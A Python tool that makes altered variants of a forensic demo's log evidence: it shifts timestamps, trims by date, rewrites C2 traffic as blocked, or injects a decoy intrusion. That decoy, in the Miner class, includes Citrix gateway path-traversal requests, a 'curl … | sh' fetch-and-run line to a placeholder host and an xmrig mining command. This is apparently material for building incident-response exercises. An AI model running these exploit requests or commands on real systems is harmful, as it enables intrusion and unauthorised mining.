#!/usr/bin/env python3
"""A copy of the demo's evidence in which something is other than it was. Logs are opened, changed line by line and packed again.

  variant.py FROM TO shift SECONDS     every clock runs that much ahead: stamps, file times, counters of seconds
  variant.py FROM TO since DATE        what is older than that day is gone: lines, messages, files
  variant.py FROM TO block             what the campaign sent out was blocked: proxy denies it, no connection is made
  variant.py FROM TO miner             FROM is the background case: somebody else came through the gateway and mines coins
FROM and TO are files or folders.
"""

import calendar
import datetime
import gzip
import io
import os
import re
import subprocess
import sys
import tarfile
import time

MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
YEAR = 2020
C2, MAIL_C2 = b"103.253.41.102", b"111.90.150.140"


def seconds_of(text, form):
    return calendar.timegm(time.strptime(text.decode(), form))


def stamp_of(seconds, form):
    return time.strftime(form, time.gmtime(seconds)).encode()


# Where the time of a line stands: the first form that fits a file's lines serves the whole file. Each gives the seconds of a match (as the clock of the
# log shows them), and writes other seconds in the same form.
class Form:
    def __init__(self, pattern, form, more=()):
        self.pattern, self.form, self.more = re.compile(pattern), form, [re.compile(p) for p in more]

    def read(self, line):
        m = self.pattern.search(line)
        return seconds_of(m.group(1), self.form) if m else None

    def write(self, line, shift):
        def moved(m):
            a, b = m.span(1)
            return m.group(0)[:a - m.start()] + stamp_of(seconds_of(m.group(1), self.form) + shift, self.form) + m.group(0)[b - m.start():]

        line = self.pattern.sub(moved, line, 1)
        return line


class Counter:
    """Seconds since 1970."""

    def __init__(self, pattern):
        self.pattern = re.compile(pattern)

    def read(self, line):
        m = self.pattern.search(line)
        return int(m.group(1)) if m else None

    def write(self, line, shift):
        return self.pattern.sub(lambda m: m.group(0).replace(m.group(1), b"%d" % (int(m.group(1)) + shift), 1), line, 1)


class Syslog:
    """No year: read as of the demo's."""

    pattern = re.compile(rb"^([A-Z][a-z]{2}) ([ \d]\d) (\d\d:\d\d:\d\d) ")
    inner = Form(rb" (\d\d/\d\d/\d{4}:\d\d:\d\d:\d\d)  ctx-gw", "%m/%d/%Y:%H:%M:%S")

    def read(self, line):
        m = self.pattern.match(line)
        if not m:
            return None
        return calendar.timegm((YEAR, MONTHS.index(m.group(1).decode()) + 1, int(m.group(2)), *(int(x) for x in m.group(3).split(b":"))))

    def write(self, line, shift):
        at = self.read(line)
        if at is None:
            return line
        p = time.gmtime(at + shift)
        line = b"%s %2d %02d:%02d:%02d " % (MONTHS[p.tm_mon - 1].encode(), p.tm_mday, p.tm_hour, p.tm_min, p.tm_sec) + line[self.pattern.match(line).end():]
        return self.inner.write(line, shift)


class Fortigate:
    counter = Counter(rb"eventtime=(\d{10})")
    stamp = Form(rb"date=(\d{4}-\d\d-\d\d time=\d\d:\d\d:\d\d)", "%Y-%m-%d time=%H:%M:%S")

    def read(self, line):
        return self.counter.read(line)

    def write(self, line, shift):
        return self.stamp.write(self.counter.write(line, shift), shift)


FORMS = (
    Form(rb'"@timestamp":"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)', "%Y-%m-%dT%H:%M:%S"),
    Form(rb" \[(\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d) ", "%d/%b/%Y:%H:%M:%S"),
    Fortigate(),
    Counter(rb"msg=audit\((\d{10})\."),
    Counter(rb"^(\d{10})\.\d{6}\t"),
    Form(rb"^\[\w{3} (\w{3} [ \d]\d \d\d:\d\d:\d\d \d{4})\] ", "%b %d %H:%M:%S %Y"),
    Form(rb"^\d\d,(\d\d/\d\d/\d\d,\d\d:\d\d:\d\d),", "%m/%d/%y,%H:%M:%S"),
    Form(rb'^"(\d\d/\d\d/\d{4} \d\d:\d\d:\d\d)"', "%d/%m/%Y %H:%M:%S"),
    Form(rb"^(\d\d/\d\d/\d{4} \d\d:\d\d:\d\d);", "%d/%m/%Y %H:%M:%S"),
    Form(rb"^(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d),", "%Y-%m-%d %H:%M:%S"),
    Syslog(),
)
MAIL_DATE = re.compile(rb"(?m)^(?:Date: |\t?.*; )?\w{3}, (\d{1,2} \w{3} \d{4} \d\d:\d\d:\d\d) [+-]\d{4}\r?$")


def form_of(lines):
    for form in FORMS:
        if any(form.read(line) is not None for line in lines[:60]):
            return form
    return None


class Shift:
    def __init__(self, seconds):
        self.seconds = int(seconds)

    def member(self, info):
        info.mtime += self.seconds
        return True

    def lines(self, name, lines):
        form = form_of(lines)
        return [form.write(line, self.seconds) for line in lines] if form else lines

    def text(self, name, data):
        if name.endswith(".eml") or data.startswith(b"From "):
            return re.sub(rb"(\d{1,2} [A-Z][a-z]{2} \d{4} \d\d:\d\d:\d\d)", lambda m: stamp_of(seconds_of(m.group(1), "%d %b %Y %H:%M:%S") + self.seconds, "%d %b %Y %H:%M:%S"), data)
        return None


class Since:
    def __init__(self, day):
        self.first = calendar.timegm(time.strptime(day, "%Y-%m-%d"))

    def member(self, info):
        return info.mtime >= self.first

    def lines(self, name, lines):
        form = form_of(lines)
        if not form:
            return lines
        kept, keep = [], True
        for line in lines:
            at = form.read(line)
            keep = at >= self.first if at is not None else keep or not kept
            if keep or (at is None and line.startswith(b"#")):
                kept.append(line)
        return kept

    def text(self, name, data):
        return b"" if data.startswith(b"From ") else None       # the list's mails end in June


class Block:
    def member(self, info):
        return True

    def lines(self, name, lines):
        if lines and lines[0].startswith(b"{") and "proxy" in name:
            return [re.sub(rb'"bytes":\d+', b'"bytes":0', line.replace(b'"action":"allowed"', b'"action":"denied"').replace(b'"status_code":200', b'"status_code":403'))
                    if b'"ip":"' + C2 in line else line for line in lines]
        if lines and lines[0].startswith(b"#separator"):
            if "/conn." in name:
                out = []
                for line in lines:
                    f = line.split(b"\t")
                    if len(f) == 21 and f[4] == MAIL_C2:
                        f[7], f[8], f[9], f[10], f[11], f[15], f[16], f[17], f[18], f[19] = b"-", b"-", b"-", b"-", b"S0", b"S", b"1", b"44", b"0", b"0"
                        line = b"\t".join(f)
                    elif len(f) == 21 and f[4] == C2:
                        continue                                # the proxy made no connection
                    out.append(line)
                return out
            return [line for line in lines if C2 not in line and MAIL_C2 not in line and b"C=Tunis" not in line]
        if lines and lines[0].startswith(b"date="):
            return [re.sub(rb"(sent|rcvd)byte=\d+", rb"\1byte=0", re.sub(rb'action="\w+"', b'action="deny"', line)) if b"dstip=" + MAIL_C2 in line else line
                    for line in lines if b"dstip=" + C2 not in line]
        return lines

    def text(self, name, data):
        return None


class Miner:
    """Two requests of the January kind, and a known miner; nothing of the campaign."""

    requests = (b'198.18.66.9 - - [11/May/2020:04:40:02 +0000] "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1" 200 143 "-" "curl/7.58.0"\n',
                b'198.18.66.9 - - [11/May/2020:04:40:05 +0000] "GET /vpns/portal/pwzrtcxm.xml HTTP/1.1" 200 977 "-" "curl/7.58.0"\n')
    commands = (b"May 11 04:40:02 <local7.notice> ctx-gw-01 bash[20900]: nobody (null) on (null) shell_command=\"curl -s http://203.0.113.150/x.sh | sh\"\n",
                b"May 11 04:40:09 <local7.notice> ctx-gw-01 bash[20901]: nobody (null) on (null) shell_command=\"/tmp/.kt/xmrig -o pool.coins.example:3333 -u 4Bd1 --donate-level 1\"\n")

    def member(self, info):
        return True

    def lines(self, name, lines):
        added = self.requests if "loghost" in name and "httpaccess" in name else self.commands if name.endswith("bash.log") else ()
        if not added:
            return lines
        if "httpaccess" in name:                                # a day that the log host has
            added = [line.replace(b"11/May", b"14/May") for line in added]
        else:
            added = [line.replace(b"May 11", b"May 14") for line in added]
        form = form_of(lines)
        at = next((i for i, line in enumerate(lines) if (form.read(line) or 0) > form.read(added[0])), len(lines))
        return lines[:at] + list(added) + lines[at:]

    def text(self, name, data):
        return None


def change(operation, name, data):
    whole = operation.text(name, data)
    if whole is not None:
        return whole
    if data.startswith(b"\xff\xfe"):
        lines = data[2:].decode("utf-16-le").encode("latin-1", "replace").splitlines(True)
        return b"\xff\xfe" + b"".join(operation.lines(name, lines)).decode("latin-1").encode("utf-16-le")
    if b"\0" in data[:4096]:
        return data
    return b"".join(operation.lines(name, re.findall(rb"[^\n]*\n|[^\n]+$", data)))


def copied(operation, name, data):
    """One file's bytes, through its containers."""
    if name.endswith(".gz"):
        return gzip.compress(copied(operation, name[:-3], gzip.decompress(data)), 1, mtime=0)
    if name.endswith(".zst"):
        plain = subprocess.run(["zstd", "-dqc"], input=data, stdout=subprocess.PIPE, check=True).stdout
        return subprocess.run(["zstd", "-q1", "-c"], input=copied(operation, name[:-4], plain), stdout=subprocess.PIPE, check=True).stdout
    if name.endswith(".tar"):
        out = io.BytesIO()
        with tarfile.open(fileobj=io.BytesIO(data)) as old, tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as new:
            for member in old:
                if not operation.member(member):
                    continue
                content = copied(operation, member.name, old.extractfile(member).read())
                member.size = len(content)
                new.addfile(member, io.BytesIO(content))
        return out.getvalue()
    return change(operation, name, data)


def main():
    source, target, what = sys.argv[1:4]
    operation = {"shift": Shift, "since": Since, "block": Block, "miner": Miner}[what](*sys.argv[4:])
    files = [source] if os.path.isfile(source) else sorted(os.path.join(d, f) for d, _, names in os.walk(source) for f in names)
    for path in files:
        place = target if path == source else os.path.join(target, os.path.relpath(path, source))
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(path, "rb") as f:
            data = copied(operation, path, f.read())
        if what == "since" and not data:
            continue
        with open(place, "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
